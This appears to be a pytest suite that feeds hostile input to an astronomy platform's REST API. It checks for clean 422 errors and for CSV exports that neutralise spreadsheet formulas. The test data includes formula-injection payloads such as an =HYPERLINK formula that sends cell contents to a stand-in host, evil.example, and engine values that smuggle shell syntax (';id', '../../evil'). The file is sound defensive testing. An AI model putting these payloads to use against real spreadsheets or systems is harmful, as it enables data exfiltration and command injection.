"""Hostile input to the REST API of a running ``hectornb serve``: each answer is a 4xx that
says what is wrong, never a 500; exports open in a spreadsheet as data, not formulas."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
import requests

from hectornb.obslog import ObslogStore


def api(platform, method, path, **kw):
    headers = {"Authorization": f"token {platform['token']}", **kw.pop("headers", {})}
    return requests.request(
        method, platform["base"] + "/hectornb/api/" + path, headers=headers, timeout=60, **kw
    )


@pytest.fixture()
def observer(platform):
    me = api(platform, "GET", "").json()["user"]
    ObslogStore().set_observer(me)
    yield me
    ObslogStore().set_observer(me, False)


@pytest.fixture()
def target_list(platform):
    name = f"hostile-{uuid.uuid4().hex[:8]}"
    body = (
        'name,ra,dec\n"=HYPERLINK(""http://evil.example/?x""&A1,""click"")",10.0,-45.5\n'
        "+cmd,11.0,-46.0\n@SUM(1+1),12.0,-47.0\n-2+3,13.0,-48.0\n"
        "NGC1,14.0,-49.0\n"
    )
    r = api(
        platform,
        "POST",
        "targets/lists",
        params={"filename": "t.csv", "name": name},
        data=body.encode(),
    )
    assert r.status_code == 201, r.text
    yield name
    api(platform, "DELETE", f"targets/lists/{name}")


def test_nul_characters_are_refused_with_the_field(platform, observer):
    r = api(platform, "POST", "obslog/logs", json={"night": "2031-05-01", "comment": "a\u0000b"})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "comment"
    r = api(platform, "POST", "reduce/jobs", json={"frames": ["a\u0000b"]})
    assert r.status_code == 422 and "frames[0]" in r.json()["error"]
    r = api(platform, "GET", "obslog/logs?comment=%00")
    assert r.status_code == 422 and "NUL" in r.json()["error"]
    r = api(platform, "GET", "obslog/logs?q=x%00y")
    assert r.status_code == 422


def test_json_nested_a_hundred_thousand_deep_is_a_422(platform, observer):
    deep = b"[" * 100_000 + b"]" * 100_000
    for method, path in (("POST", "obslog/logs"), ("POST", "reduce/jobs"), ("POST", "tokens")):
        r = api(platform, method, path, data=deep, headers={"Content-Type": "application/json"})
        assert r.status_code == 422, (path, r.status_code, r.text[:200])
        assert "nested too deeply" in r.json()["error"]
    r = api(
        platform,
        "POST",
        "obslog/logs",
        data=b'{"comment": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        headers={"Content-Type": "application/json"},
    )
    assert r.status_code == 422


@pytest.mark.parametrize("value", ["9223372036854775808", "1e40", "-1", "nan"])
def test_offsets_out_of_range_are_a_422(platform, observer, target_list, value):
    r = api(platform, "GET", f"targets/lists/{target_list}/targets", params={"offset": value})
    assert r.status_code == 422 and "offset must be a whole number" in r.json()["error"]
    r = api(platform, "GET", "obslog/logs", params={"offset": value})
    assert r.status_code == 422, r.text


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e308", "-1", "x"])
def test_reduce_days_must_be_a_finite_number_of_days(platform, value):
    r = api(platform, "GET", "reduce/jobs", params={"days": value})
    assert r.status_code == 422 and "days must be a number" in r.json()["error"]
    assert api(platform, "GET", "reduce/jobs", params={"days": "0.5"}).status_code == 200


@pytest.mark.parametrize(
    "engine",
    [
        "2dfdr-docker@x;id",
        "2dfdr-docker@../../evil",
        "2dfdr-docker@-rm",
        "builtin@1 2",
        "2dfdr-docker@" + "a" * 129,
    ],
)
def test_an_engine_reference_outside_the_tag_grammar_is_refused_at_submit(platform, engine):
    r = api(platform, "POST", "reduce/jobs", json={"frames": ["x.fits"], "engine": engine})
    assert r.status_code == 422 and "after @ comes" in r.json()["error"], r.text


def test_exports_show_formulas_as_text_and_keep_what_was_stored(platform, observer, target_list):
    text = api(platform, "GET", f"targets/lists/{target_list}/export.csv").text
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert names == [
        '\'=HYPERLINK("http://evil.example/?x"&A1,"click")',
        "'+cmd",
        "'@SUM(1+1)",
        "'-2+3",
        "NGC1",
    ]
    decs = [row["dec"] for row in csv.DictReader(io.StringIO(text))]
    assert decs[0] == "-45.50000000"  # numbers stay numbers
    stored = api(
        platform, "GET", f"targets/lists/{target_list}/targets", params={"limit": 10}
    ).json()["targets"]
    assert {t["name"] for t in stored} >= {
        '=HYPERLINK("http://evil.example/?x"&A1,"click")',
        "+cmd",
        "@SUM(1+1)",
    }
    tag = "f" + uuid.uuid4().hex[:8]
    r = api(
        platform,
        "POST",
        "obslog/logs",
        json={"night": "2031-05-02", "comment": "=1+1", "tags": [tag]},
    )
    assert r.status_code == 201, r.text
    rows = list(
        csv.DictReader(io.StringIO(api(platform, "GET", f"obslog/logs.csv?tags={tag}").text))
    )
    assert [row["comment"] for row in rows] == ["'=1+1"]
    log_id = r.json()["log_id"]
    assert api(platform, "GET", f"obslog/logs/{log_id}").json()["comment"] == "=1+1"


def test_values_too_long_for_the_database_s_indexes_are_a_422(platform, observer):
    """Random (incompressible) text longer than an index row may be: a 422 that says so."""
    import secrets

    long_id = secrets.token_hex(4500)  # 9000 characters that do not compress
    r = api(platform, "POST", "obslog/logs", json={"night": "2031-05-03", "log_id": long_id})
    assert r.status_code == 422 and "too long" in r.json()["error"], r.text[:300]
    r = api(
        platform,
        "POST",
        "obslog/logs",
        json={"night": "2031-05-03", "tags": [secrets.token_hex(2500)]},
    )
    assert r.status_code == 422, r.text[:300]
    r = api(
        platform,
        "POST",
        "targets/lists",
        data=b"T1,10.0,-45.0\n",
        params={"filename": "t.csv", "name": secrets.token_hex(1500)},
    )
    assert r.status_code == 422, r.text[:300]
